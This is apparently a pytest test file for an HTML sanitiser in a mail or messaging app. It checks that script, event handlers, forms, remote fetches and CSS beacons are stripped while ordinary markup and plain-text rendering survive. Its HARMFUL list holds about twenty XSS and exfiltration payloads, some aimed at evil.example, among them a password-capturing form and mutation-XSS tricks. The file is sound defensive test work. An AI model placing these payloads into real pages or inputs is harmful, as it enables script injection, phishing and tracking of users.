"""Html: nothing that runs, fetches or posts comes through; what people wrote does."""

import pytest
from selectolax.lexbor import LexborHTMLParser

from threadwell.kit import html

HARMFUL = [
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<iframe src="https://evil.example"></iframe>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<p style="background:url(https://evil.example/?a)">x</p>',
    '<p style="background-image:u\\72l(https://evil.example)">x</p>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.example/x.png 2x">',
    '<img alt="<img src=&quot;https://evil.example&quot;>" src=//evil.example/x.png>',
    '<table background="https://evil.example/x.png"><tr><td>x</table>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
]  # fmt: skip
TAGS_THAT_ACT = {
    "script", "form", "input", "meta", "base", "iframe", "link", "style", "svg", "math", "object", "embed",
}  # fmt: skip
ATTRIBUTES_THAT_FETCH = {"src", "href", "style", "srcset", "background", "action", "poster"}
FETCHING = ("http", "//", "javascript", "data:text", "data:image/svg", "url(")


@pytest.mark.parametrize("source", HARMFUL)
def test_harmful_html_comes_out_harmless(source: str) -> None:
    body = LexborHTMLParser(f"<body>{html.sanitise(source)}</body>").body
    assert body is not None
    for node in body.traverse():
        assert node.tag not in TAGS_THAT_ACT
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            fetched = (value or "").strip().casefold() if name in ATTRIBUTES_THAT_FETCH else ""
            assert not any(piece in fetched for piece in FETCHING)


KEPT = [
    ('<p style="color:red">x</p>', '<p style="color:red">x</p>'),
    ('<img src="cid:a@b" alt="x">', '<img src="cid:a@b" alt="x">'),
    ('<img src="https://a.example/x.png">', '<img data-remote-src="https://a.example/x.png">'),
    ('<table><tr><td colspan="2">x', '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'),
    ('<blockquote type="cite">x</blockquote>', '<blockquote type="cite">x</blockquote>'),
]


@pytest.mark.parametrize(("source", "safe"), KEPT)
def test_what_people_wrote_is_kept(source: str, safe: str) -> None:
    assert html.sanitise(source) == safe


TEXTS = [
    ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree"),
    ("<ul><li>a<li>b</ul>", "- a\n- b"),
    ("<table><tr><td>1<td>2<tr><td>3</table>", "1 2\n3"),
    ("<div>a</div>\n  <div>b &amp; c</div>", "a\nb & c"),
    ("<pre>a\n  b</pre>", "a\n  b"),
    ("<title>no</title><style>no</style><script>no</script>yes", "yes"),
    ("H<b>e</b>llo <i>you</i>", "Hello you"),
]


@pytest.mark.parametrize(("source", "text"), TEXTS)
def test_text_is_what_a_reader_would_see(source: str, text: str) -> None:
    assert html.to_text(source) == text


def test_html_too_deep_to_look_through_comes_as_its_text() -> None:
    deep = "<div>" * 50_000 + "here"
    assert html.to_text(deep).strip() == "here"
    assert "<div" not in html.sanitise(deep)
